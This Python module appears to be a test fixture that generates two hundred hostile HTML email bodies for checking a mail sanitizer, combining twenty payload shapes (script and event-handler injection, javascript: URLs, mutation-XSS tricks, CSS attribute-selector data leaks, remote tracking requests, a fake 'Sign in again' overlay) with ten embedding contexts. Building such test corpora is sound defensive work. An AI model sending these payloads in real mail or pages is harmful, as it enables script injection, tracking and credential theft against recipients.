"""Two hundred bodies of mail that mean harm: each way to run or to ask, in each place where it may be overlooked."""
# ruff: noqa: E501  # a shape is one line

from collections.abc import Callable
from itertools import product

# `{there}` is a stranger's address. What runs would set `ran` on the page.
RUN = "top.ran=1;parent.ran=1;window.ran=1;fetch('{there}run')"
SHAPES = [
    f'<script>{RUN}</script><img src=x onerror="{RUN}"><body onload="{RUN}">',
    f'<svg onload="{RUN}"><animate onbegin="{RUN}" attributeName=x dur=1s><image href="{{there}}svg"/></svg>',
    f'<a href="javascript:{RUN}" id=x name=x>x</a><iframe src="javascript:{RUN}"></iframe>',
    "<img src='{there}img' srcset='{there}set 1x'><picture><source srcset='{there}source'><img></picture>",
    '<img src="{there}tiny" width=1 height=1><input type=image src="{there}input"><table background="{there}table"><tr><td>',
    "<video src='{there}video' poster='{there}poster' autoplay></video><audio src='{there}audio' autoplay></audio>",
    "<iframe src='{there}frame'></iframe><iframe srcdoc=\"<img src='{there}srcdoc'>\"></iframe><embed src='{there}embed'>",
    "<object data='{there}object'></object><applet code='{there}applet'></applet><portal src='{there}portal'></portal>",
    "<style>@import '{there}import'; body{{background:url({there}css)}} @font-face{{font-family:f;src:url({there}font)}} p{{font-family:f}}</style>",
    "<p style=\"background:url('{there}style');list-style:url({there}list);cursor:url({there}cursor),auto;content:url({there}c)\">x</p>",
    "<link rel=stylesheet href='{there}link'><link rel=prefetch href='{there}prefetch'><link rel=preconnect href='{there}'>",
    "<meta http-equiv=refresh content='0;url={there}refresh'><base href='{there}base/'><img src=relative>",
    "<form id=f action='{there}form'><button>x</button><input name=a autofocus></form><isindex action='{there}isindex'>",
    "<math><mtext><table><mglyph><style><img src='{there}math' onerror='top.ran=1'></style></mglyph></table></mtext></math>",
    "<noscript><p title=\"</noscript><img src='{there}noscript' onerror='top.ran=1'>\"></noscript><template><img src='{there}t'></template>",
    "<div id=body name=body><img name=documentElement src='{there}name'><a id=contentDocument></a></div>",
    "<style>:root{{--a:url({there}var)}} p{{background:var(--a)}} input[value^=a]{{background:url({there}leak)}}</style><p>x",
    "<p style='position:fixed;inset:0;background:#fff;z-index:9999'>Sign in again</p><style>*{{width:100vw;height:100000vh}}</style>",
    "<img src='/logout/'><img src='/accounts/'><p style='background:url(/admin/)'><link rel=stylesheet href=/static/a.css>",
    "<details open ontoggle='top.ran=1'><summary>x</summary></details><marquee onstart='top.ran=1'>x</marquee>",
]
PLACES: list[Callable[[str], str]] = [
    lambda html: html,
    lambda html: f"<table><tr><td>{html}</table>",
    lambda html: f"<div><!-- > --><p>{html}",
    lambda html: f"<b><i><u>{html}<p></b>{html}",
    lambda html: f"<svg><desc>{html}</desc></svg>",
    lambda html: f"<select><option>{html}</select>",
    lambda html: f"<!--[if mso]>{html}<![endif]-->{html}",
    lambda html: f"<textarea></textarea><title></title>{html}",
    lambda html: html.replace("<img", "<IMG/").replace("src=", "\tSRC\n=\r"),
    lambda html: f"<blockquote class=gmail_quote>{html}</blockquote>",
]


def bodies(there: str) -> list[str]:
    """Return the two hundred; they ask for `there`, an address that ends with a slash."""
    shapes = [shape.replace("{there}", there).replace("{{", "{").replace("}}", "}") for shape in SHAPES]
    return [f"<p>Mail {number}</p>{place(shape)}" for number, (shape, place) in enumerate(product(shapes, PLACES))]
